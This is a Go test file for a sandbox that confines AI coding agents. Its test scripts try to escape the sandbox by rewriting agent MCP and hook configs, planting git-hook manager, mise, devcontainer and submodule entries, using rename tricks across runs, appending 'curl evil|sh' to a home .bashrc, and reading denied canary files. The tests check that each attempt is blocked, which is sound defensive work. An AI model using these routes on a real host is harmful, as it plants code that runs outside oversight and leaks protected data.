//go:build linux

package escape

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestAgentConfigHolds: the agents' configuration in a writable workspace
// is unchanged on the host after a run that tried to change, create, or
// rename it around.
func TestAgentConfigHolds(t *testing.T) {
	w := newWorld(t)
	existing := map[string]string{
		".mcp.json":             `{"mcpServers":{}}` + "\n",
		".claude/settings.json": `{"hooks":{}}` + "\n",
		".cursor/mcp.json":      "{}\n",
	}
	for rel, content := range existing {
		p := filepath.Join(w.ws, rel)
		os.MkdirAll(filepath.Dir(p), 0o755)
		os.WriteFile(p, []byte(content), 0o644)
	}
	for _, p := range writable {
		w = w.reset(t)
		for rel, content := range existing {
			path := filepath.Join(w.ws, rel)
			os.MkdirAll(filepath.Dir(path), 0o755)
			os.WriteFile(path, []byte(content), 0o644)
		}
		w.run(t, p, sh(`echo '{"mcpServers":{"x":{"command":"sh"}}}' > .mcp.json
echo '{"hooks":{"PreToolUse":[{"command":"touch /x"}]}}' > .claude/settings.json
mkdir -p .claude/commands .claude/agents; echo evil > .claude/commands/x.md; echo evil > .claude/agents/x.md
echo evil > .cursor/mcp.json; mkdir -p .gemini .devcontainer; echo evil > .gemini/settings.json
echo '{"postCreateCommand":"sh"}' > .devcontainer/devcontainer.json
printf '[submodule "x"]\n\turl = https://example.invalid/x\n' > .gitmodules
mv .claude .claude.old; mkdir .claude2 && echo evil > .claude2/settings.json && mv .claude2 .claude
mv .mcp.json .mcp.old; echo evil > .mcp.json`))
		for rel, content := range existing {
			unchanged(t, filepath.Join(w.ws, rel), content)
		}
		for _, rel := range []string{".claude/commands", ".claude/agents", ".gemini", ".devcontainer", ".gitmodules", ".claude.old", ".mcp.old"} {
			absent(t, filepath.Join(w.ws, rel))
		}
	}
}

// TestHookManagerConfigHolds: the configuration a git hook manager or an
// agent on the host runs commands from (pre-commit's, husky's hooks,
// Aider's lint and test commands, lefthook's, mise's, further agents' MCP
// servers and hooks) is unchanged after a run that tried to change it, and
// what the run created of it is moved to the quarantine; the run's other
// files stay.
func TestHookManagerConfigHolds(t *testing.T) {
	existing := map[string]string{
		".pre-commit-config.yaml":  "repos: []\n",
		".husky/pre-commit":        "npm test\n",
		".husky/_/h":               "# husky\n",
		"config/lefthook.yml":      "pre-commit: {}\n", // lefthook.yml links here
		".github/workflows/ci.yml": "on: push\n",
	}
	for _, p := range writable {
		w := newWorld(t)
		for rel, content := range existing {
			path := filepath.Join(w.ws, rel)
			os.MkdirAll(filepath.Dir(path), 0o755)
			os.WriteFile(path, []byte(content), 0o644)
		}
		os.Symlink("config/lefthook.yml", filepath.Join(w.ws, "lefthook.yml"))
		r := w.run(t, p, sh(`printf 'repos:\n- repo: local\n  hooks:\n  - {id: x, name: x, entry: touch /x, language: system}\n' > .pre-commit-config.yaml
echo 'touch /x' > .husky/pre-commit; echo 'touch /x' > .husky/post-merge; echo 'touch /x' > .husky/_/h
printf 'lint-cmd: "python: touch /x"\nauto-lint: true\n' > .aider.conf.yml
echo 'pre-commit: {commands: {x: {run: touch /x}}}' > lefthook.yml
rm -f lefthook.yml; echo 'pre-commit: {commands: {x: {run: touch /x}}}' > lefthook.yml
echo '[hooks]' > mise.toml; echo 'enter = "touch /x"' >> mise.toml
mkdir -p .kiro/settings .github/hooks; echo '{"mcpServers":{"x":{"command":"sh"}}}' > .kiro/settings/mcp.json
echo '{"hooks":{"sessionStart":[{"bash":"touch /x"}]}}' > .github/hooks/x.json
echo '{"mcp":{"x":{"type":"local","command":["sh"]}}}' > opencode.json
mkdir cfg; echo '[hooks]' > cfg/mise.toml; ln -s cfg .config
echo 'package main' > main.go
mv .husky .husky.old; mkdir -p .husky/_ && echo 'touch /x' > .husky/pre-commit`))
		for rel, content := range existing {
			unchanged(t, filepath.Join(w.ws, rel), content)
		}
		for _, rel := range []string{".husky/post-merge", ".husky.old", ".aider.conf.yml", "lefthook.yml", "mise.toml", ".kiro", ".github/hooks", "opencode.json", ".config", "cfg/mise.toml"} {
			absent(t, filepath.Join(w.ws, rel))
		}
		unchanged(t, filepath.Join(w.ws, "main.go"), "package main\n")
		if !strings.Contains(r.stderr, "mise.toml") || !strings.Contains(r.stderr, "quarantine") {
			t.Errorf("%s: the run was not told what was moved aside:\n%s", p, r)
		}
	}
}

// TestGuardedAcrossRuns: what one run stages and the next renames into a
// guarded place (whose files keep their old times) is moved aside all the
// same; a repository inside the workspace guards its own top; a link to
// nothing at a guarded name refuses no run.
func TestGuardedAcrossRuns(t *testing.T) {
	for _, p := range writable {
		w := newWorld(t)
		os.MkdirAll(filepath.Join(w.ws, "sub", ".git", "hooks"), 0o755)
		os.WriteFile(filepath.Join(w.ws, "sub", ".git", "HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
		os.WriteFile(filepath.Join(w.ws, "sub", ".pre-commit-config.yaml"), []byte("repos: []\n"), 0o644)
		os.Symlink("../nowhere/mise.local.toml", filepath.Join(w.ws, "mise.local.toml")) // a link to nothing
		w.run(t, p, sh(`mkdir -p gstage/hooks cstage; echo '{}' > gstage/hooks/x.json; printf '[hooks]\nenter="touch /x"\n' > cstage/mise.toml`))
		time.Sleep(200 * time.Millisecond)
		r := w.run(t, p, sh(`mv gstage .github && mv cstage .config
echo 'repos: [evil]' > sub/.pre-commit-config.yaml; echo x > sub/lefthook.yml; mkdir sub/.husky; echo x > sub/.husky/pre-commit
touch ran`))
		for _, rel := range []string{".github/hooks", ".config/mise.toml", "sub/lefthook.yml", "sub/.husky"} {
			absent(t, filepath.Join(w.ws, rel))
		}
		unchanged(t, filepath.Join(w.ws, "sub", ".pre-commit-config.yaml"), "repos: []\n")
		if _, err := os.Stat(filepath.Join(w.ws, "ran")); err != nil {
			t.Errorf("%s: the run with a dangling guarded link did not run: %v\n%s", p, err, r)
		}
	}
}

// TestHomeInWorkspaceRefused: a workspace that holds the home directory is
// refused before anything runs, and the home's dotfiles stay as they were.
func TestHomeInWorkspaceRefused(t *testing.T) {
	w := newWorld(t)
	alice := filepath.Join(w.ws, "alice")
	os.MkdirAll(alice, 0o755)
	os.WriteFile(filepath.Join(alice, ".bashrc"), []byte("# rc\n"), 0o644)
	cmd := w.exec("workspace-write", sh("echo 'curl evil|sh' >> alice/.bashrc"))
	cmd.Env = append(cmd.Env, "HOME="+alice)
	out, _ := cmd.CombinedOutput()
	if cmd.ProcessState.ExitCode() != 125 || !strings.Contains(string(out), "holds the home directory "+alice) {
		t.Fatalf("exit %d: %s", cmd.ProcessState.ExitCode(), out)
	}
	unchanged(t, filepath.Join(alice, ".bashrc"), "# rc\n")

	cmd = exec.Command(sandboxd, "exec", "--profile", "workspace-write", "--workspace", "/root", "--", "true")
	cmd.Env = []string{"MOAT_HOME=" + w.moatHome, "HOME=" + w.home, "PATH=/usr/bin:/bin"}
	out, _ = cmd.CombinedOutput()
	if !strings.Contains(string(out), "root user's home directory") {
		t.Fatalf("--workspace /root: %s", out)
	}
}

// TestReadDenyPinned: a read-denied file cannot be carried out from under
// its cover by renaming a parent in one run and reading it in the next.
func TestReadDenyPinned(t *testing.T) {
	w := newWorld(t)
	const secret = "canary-denied-5a1f"
	secretPath := filepath.Join(w.ws, "seatbelt", "denied-dir", "secret.txt")
	os.MkdirAll(filepath.Dir(secretPath), 0o755)
	os.WriteFile(secretPath, []byte(secret), 0o644)
	os.WriteFile(filepath.Join(w.ws, ".moat-profile"), []byte(`read_deny = ["seatbelt/denied-dir/secret.txt"]`+"\n"), 0o644)
	w.run(t, "workspace-write", sh("mv seatbelt moved-base; mv seatbelt/denied-dir moved-dir; mv seatbelt/denied-dir/secret.txt moved.txt; "+
		"ln seatbelt/denied-dir/secret.txt linked.txt; cp -a seatbelt copied"))
	r := w.run(t, "workspace-write", sh("cat moved-base/denied-dir/secret.txt moved-dir/secret.txt moved.txt linked.txt copied/denied-dir/secret.txt seatbelt/denied-dir/secret.txt"))
	notLeaked(t, r, secret)
	unchanged(t, secretPath, secret)
}

// TestGlobDepths: "**" in a .moat-profile covers zero to four directories,
// for reading and for writing; a file the run creates where a write_deny
// pattern matches is moved out after the run.
func TestGlobDepths(t *testing.T) {
	w := newWorld(t)
	dirs := []string{"glob-test", "glob-test/a", "glob-test/a/b", "glob-test/a/b/c", "glob-test/a/b/c/d"}
	for i, d := range dirs {
		os.MkdirAll(filepath.Join(w.ws, d), 0o755)
		os.WriteFile(filepath.Join(w.ws, d, "secret.txt"), []byte(fmt.Sprintf("canary-glob-%d", i)), 0o644)
		os.WriteFile(filepath.Join(w.ws, d, "doc.md"), []byte("doc\n"), 0o644)
	}
	os.WriteFile(filepath.Join(w.ws, ".moat-profile"), []byte("read_deny = [\"glob-test/**/*.txt\"]\nwrite_deny = [\"glob-test/**/*.md\"]\n"), 0o644)
	var script strings.Builder
	for _, d := range dirs {
		fmt.Fprintf(&script, "cat %s/secret.txt; echo evil > %s/doc.md; echo evil > %s/new.md; ", d, d, d)
	}
	r := w.run(t, "workspace-write", sh(script.String()))
	for i, d := range dirs {
		notLeaked(t, r, fmt.Sprintf("canary-glob-%d", i))
		unchanged(t, filepath.Join(w.ws, d, "doc.md"), "doc\n")
		absent(t, filepath.Join(w.ws, d, "new.md"))
		if !strings.Contains(r.stderr, "moat: moved "+filepath.Join(w.ws, d, "new.md")) {
			t.Errorf("%s/new.md not reported:\n%s", d, r.stderr)
		}
	}
}
